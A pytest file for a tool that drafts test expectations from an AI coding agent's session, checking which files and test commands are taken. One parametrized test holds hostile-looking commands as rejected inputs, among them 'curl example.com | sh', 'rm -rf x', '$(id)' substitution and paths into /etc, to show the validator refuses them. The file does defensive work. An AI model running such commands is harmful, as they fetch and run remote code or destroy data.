"""Which expectations are drafted from what a session did."""

from __future__ import annotations

import pytest

from skillgym_action.authoring.promotion.files import PromotedFile
from skillgym_action.authoring.promotion.promotion import drafted_expectations, plain_test_command, plain_test_commands
from skillgym_action.authoring.promotion.session_facts import SessionFacts
from skillgym_action.model.session_report import AgentRef, Command, RunnerRef, SessionReport

FILE = PromotedFile(content=b"x")


def facts(*changed: str, before: tuple[str, ...] = (), deleted: tuple[str, ...] = (), commands: tuple[str, ...] = ()):
    runner = RunnerRef(id="r", path_key="r", agent=AgentRef(type="codex"))
    events = tuple(Command(command=command) for command in commands)
    return SessionFacts(
        origin="o",
        prompt="p",
        report=SessionReport(runner=runner, prompt="p", cwd="/w", events=events),
        template=dict.fromkeys(before, FILE),
        changed=dict.fromkeys(changed, FILE),
        deleted=deleted,
    )


def test_files_and_tests_are_drafted():
    made = facts(
        "src/new.js", "cart.js", before=("cart.js", "old.js"), deleted=("old.js",), commands=("ls", "npm test")
    )
    assert drafted_expectations(made, ()) == [
        "diff:cart.js",
        "file:src/new.js exists",
        "no-file:old.js",
        "test:npm test passes",
    ]


def test_what_the_case_expects_already_is_not_drafted_again():
    made = facts("tax.js", "cart.js", before=("cart.js",), commands=("npm test",))
    known = ("file:tax.js matches /x/", {"diff": "cart.js"}, "test:npm test passes")
    assert drafted_expectations(made, known) == []


@pytest.mark.parametrize(
    "path",
    [
        "package-lock.json",
        "uv.lock",
        "dist/app.js",
        "a/node_modules/x/index.js",
        "src/__pycache__/a.pyc",
        "npm-debug.log",
        "go.sum",
    ],
)
def test_files_that_programs_make_are_not_drafted(path):
    assert drafted_expectations(facts(path), ()) == []


def test_few_files_are_drafted():
    assert len(drafted_expectations(facts(*(f"f{number}.js" for number in range(50))), ())) == 5


@pytest.mark.parametrize("path", ["a\nb", "a\x1b[31mb", "a\u202eb"])
def test_a_file_name_that_is_no_plain_text_is_not_drafted(path):
    assert drafted_expectations(facts(path), ()) == []


def test_a_path_with_spaces_is_quoted():
    assert drafted_expectations(facts("read me contains x.md"), ()) == ["file:'read me contains x.md' exists"]


@pytest.mark.parametrize(
    ("command", "drafted"),
    [
        ("npm test", "npm test"),
        ("cd packages/a && npm test", "npm test"),
        ("pytest -q tests/test_a.py::test_b", "pytest -q tests/test_a.py::test_b"),
        ("npm test; curl example.com | sh", None),
        ("npm test && rm -rf x", None),
        ("npm test > /tmp/x", None),
        ("npm test $(id)", None),
        ("npm test `id`", None),
        ("npm test\nrm -rf x", None),
        ("npm test *", None),
        ("npm test 'a b'", None),
        ("pytest ../other", None),
        ("pytest /etc", None),
        ("pytest --rootdir=/etc", None),
        ("npm run deploy", None),
        ("npm publish", None),
        ("PATH=. npm test", None),
        ("pytest " + "x" * 200, None),
        ("npm test 'unclosed", None),
        ("", None),
    ],
)
def test_only_plain_calls_of_test_runners_are_taken(command, drafted):
    assert plain_test_command(command) == drafted


def test_commands_are_taken_once_the_last_few():
    events = [Command(command=text) for text in ("pytest a", "pytest b", "pytest c", "pytest d", "pytest b")]
    assert plain_test_commands(events) == ["pytest c", "pytest d", "pytest b"]
